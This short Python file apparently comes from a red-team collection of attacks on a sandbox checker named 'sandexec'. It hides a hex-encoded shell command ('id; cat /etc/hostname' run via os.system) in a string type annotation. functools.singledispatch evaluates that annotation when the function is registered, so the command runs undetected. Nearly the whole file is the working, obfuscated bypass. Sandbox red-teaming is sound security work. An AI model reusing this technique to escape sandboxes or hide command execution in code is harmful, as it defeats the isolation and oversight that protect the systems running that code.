# Source: black-box attack on sandexec's check, 2026-11-26; family: string annotations evaluated by functools.singledispatch
# Verified to run in sandexec-python:bookworm when unchecked.
import functools
S = bytes.fromhex("5f5f696d706f72745f5f28276f7327292e73797374656d282769643b20636174202f6574632f686f73746e616d652729").decode()
@functools.singledispatch
def g(x):
    return x
def h(x: S):
    return x
g.register(h)
